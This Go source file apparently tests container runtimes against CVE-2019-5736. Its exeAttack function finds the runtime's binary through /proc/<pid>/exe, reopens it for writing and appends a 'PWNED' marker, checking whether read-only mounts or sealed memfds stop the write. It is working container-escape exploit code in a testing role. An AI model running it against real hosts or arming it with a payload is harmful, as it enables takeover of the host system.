package main

import (
	"fmt"
	"os"
	"sort"
	"strconv"
	"syscall"
	"time"
)

// The constants syscall lacks.
const (
	oPath       = 0x200000 // O_PATH
	fGetSeals   = 1034     // F_GET_SEALS
	fSealWrite  = 0x0008   // F_SEAL_WRITE
	stRdonly    = 0x0001   // ST_RDONLY
	maxDuration = 30 * time.Second
)

// grab is a handle of another process's executable.
type grab struct {
	pid      int
	fd       int
	rdonly   bool          // on a read-only mount
	sealed   bool          // a memfd sealed against writes
	firstErr syscall.Errno // reopening for writing while the process ran
}

// exeAttack performs CVE-2019-5736 from inside a container. It watches
// /proc for processes whose executable is neither busybox nor itself (that
// is the runtime's binary: an exec'd process before it execs its program,
// or a program started as "#!/proc/self/exe"), keeps an O_PATH handle of
// each one's /proc/<pid>/exe, and tries to reopen that handle for writing:
// at once, and again once goFile exists, when the runtime has exited and
// its binary is no longer busy. A handle that opens for writing gets
// "PWNED" appended, as the real exploit would overwrite the binary.
//
// It prints one HELD (or PWNED) line per handle, a DENIED line per errno
// that kept it from a process's executable, and DONE.
func exeAttack(goFile string) {
	self, bb := ident("/proc/self/exe"), ident("/bin/busybox")
	var grabs []*grab
	known := map[int]bool{}
	denied := map[syscall.Errno]int{}
	deadline := time.Now().Add(maxDuration)
	for time.Now().Before(deadline) {
		if _, err := os.Stat(goFile); err == nil {
			break
		}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() || known[pid] {
				continue
			}
			fd, err := syscall.Open("/proc/"+e.Name()+"/exe", oPath|syscall.O_CLOEXEC, 0)
			if err != nil {
				// EACCES: the process is not dumpable (the runtime
				// before its exec); look again on the next round.
				if errno, ok := err.(syscall.Errno); ok && errno != syscall.ENOENT {
					denied[errno]++
				}
				continue
			}
			var st syscall.Stat_t
			if syscall.Fstat(fd, &st) != nil || same(st, self) || same(st, bb) {
				syscall.Close(fd)
				known[pid] = true
				continue
			}
			known[pid] = true
			g := &grab{pid: pid, fd: fd}
			var fs syscall.Statfs_t
			if syscall.Fstatfs(fd, &fs) == nil {
				g.rdonly = fs.Flags&stRdonly != 0
			}
			if r, err := syscall.Open(fdPath(fd), syscall.O_RDONLY|syscall.O_CLOEXEC, 0); err == nil {
				seals, _, errno := syscall.Syscall(syscall.SYS_FCNTL, uintptr(r), fGetSeals, 0)
				g.sealed = errno == 0 && seals&fSealWrite != 0
				syscall.Close(r)
			}
			g.firstErr = tryWrite(g)
			grabs = append(grabs, g)
		}
		time.Sleep(time.Millisecond)
	}
	for _, g := range grabs {
		last := tryWrite(g)
		tag := "HELD"
		if g.firstErr == 0 || last == 0 {
			tag = "PWNED"
		}
		fmt.Printf("%s pid=%d rdonly=%t sealed=%t first=%d last=%d\n", tag, g.pid, g.rdonly, g.sealed, int(g.firstErr), int(last))
	}
	var errs []int
	for e := range denied {
		errs = append(errs, int(e))
	}
	sort.Ints(errs)
	for _, e := range errs {
		fmt.Printf("DENIED errno=%d count=%d\n", e, denied[syscall.Errno(e)])
	}
	fmt.Println("DONE")
}

// tryWrite reopens the handle for writing and, if that works, appends to
// the file: 0 means the binary was written.
func tryWrite(g *grab) syscall.Errno {
	w, err := syscall.Open(fdPath(g.fd), syscall.O_WRONLY|syscall.O_APPEND|syscall.O_CLOEXEC, 0)
	if err != nil {
		return err.(syscall.Errno)
	}
	defer syscall.Close(w)
	if _, err := syscall.Write(w, []byte("PWNED")); err != nil {
		return err.(syscall.Errno)
	}
	return 0
}

func fdPath(fd int) string { return "/proc/self/fd/" + strconv.Itoa(fd) }

func ident(path string) syscall.Stat_t {
	var st syscall.Stat_t
	syscall.Stat(path, &st)
	return st
}

func same(a, b syscall.Stat_t) bool { return a.Dev == b.Dev && a.Ino == b.Ino }
